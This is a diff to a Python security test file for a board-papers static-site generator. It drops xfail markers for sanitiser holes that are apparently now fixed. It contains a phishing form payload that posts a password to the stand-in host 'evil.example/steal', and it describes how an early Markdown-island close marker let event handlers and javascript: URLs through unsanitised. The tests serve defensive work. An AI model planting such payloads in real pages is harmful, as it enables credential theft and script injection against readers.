@@ -79,8 +79,6 @@ markdown_text = st.lists(st.tuples(st.sampled_from(JOINERS), piece), max_size=12
 line_text = st.one_of(st.sampled_from([h for h in HOSTILE if len(h) < 200]),
                       st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=30)
                       ).filter(lambda text: "\n" not in text and text.strip() != "")  # what a text field holds
-# Not yet a lone surrogate (YAML writes it "\uDCFF"): test_a_lone_surrogate_in_front_matter_is_rejected (xfail).
-line_text = line_text.filter(lambda text: "\udcff" not in text)
 
 
 @st.composite
@@ -143,20 +141,8 @@ def content(draw: st.DrawFn) -> tuple[list[str], list[str]]:
     return [draw(paper_file(i)) for i in range(PAPERS)], [draw(markdown_text).replace("\udcff", "\xff")]
 
 
-# A paper's or meeting's Markdown closing its island early (a line holding the closing marker) makes what follows
-# template HTML, never sanitised: test_a_paper_cannot_close_its_island (xfail) until render.py's fix lands. Till
-# then the marker is generated only inside a line (where it does not close anything), then this goes.
-ISLAND_CLOSE_LINE = "\n<!--/bp:markdown-->"
-
-
-def until_island_fix(text: str) -> str:
-    """`text` with the closing marker kept off the start of a line (see ISLAND_CLOSE_LINE)."""
-    return text.replace(ISLAND_CLOSE_LINE, "\n.<!--/bp:markdown-->")
-
-
 def check_then_build(papers: list[str], notes: list[str]) -> None:
     """The property: rejected with lines, or built; and the built site runs nothing from content."""
-    papers, notes = [until_island_fix(p) for p in papers], [until_island_fix(n) for n in notes]
     with tempfile.TemporaryDirectory(prefix="bp-property-") as tmp:
         outcome = build_batch(plant(Path(tmp), [], papers=papers, notes=notes))
         assert len(outcome.built) + len(outcome.withheld) + len(outcome.rejected) == len(papers)
@@ -177,18 +163,11 @@ def test_what_check_accepts_builds_and_runs_nothing(papers_and_notes: tuple[list
 FORM = "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"></form>"
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "boardpapers/sanitize.py: TAGS and ATTRIBUTES allow form, input, label and button (with action, name, type, "
-    "value) in a paper's own HTML, so a paper can post what a reader types to another site"))
 def test_a_paper_cannot_write_a_form() -> None:
     paper = "---\ntitle: T\nagenda_item: \"1\"\nfrom: null\nclassification: official\nstatus: published\n---\n\n"
     check_then_build([paper + f"Sign in again: {FORM}\n"], [])
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "boardpapers/render.py islands(): a body line '<!--/bp:markdown-->' ends the paper's Markdown island early, "
-    "so what follows it is taken as template HTML and never sanitised: an event handler and a javascript: URL "
-    "reach the paper page (DESIGN.md's forgeable framing)"))
 def test_a_paper_cannot_close_its_island() -> None:
     paper = "---\ntitle: T\nagenda_item: \"1\"\nfrom: null\nclassification: official\nstatus: published\n---\n\n"
     with tempfile.TemporaryDirectory(prefix="bp-island-") as tmp:
@@ -198,10 +177,6 @@ def test_a_paper_cannot_close_its_island() -> None:
         audit_site(outcome.site)
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "boardpapers/fields.py accepts a YAML escape of a lone surrogate (title: \"\\uDCFF\") as text; the build "
-    "then stops in render.py _populate, page.markdown.encode(): UnicodeEncodeError, surrogates not allowed "
-    "(a worker's traceback on a larger site). Check should reject it with its line"))
 def test_a_lone_surrogate_in_front_matter_is_rejected() -> None:
     paper = ("---\ntitle: \"A \\uDCFF title\"\nagenda_item: \"1\"\nfrom: null\nclassification: official\n"
              "status: published\n---\n\nBody.\n")
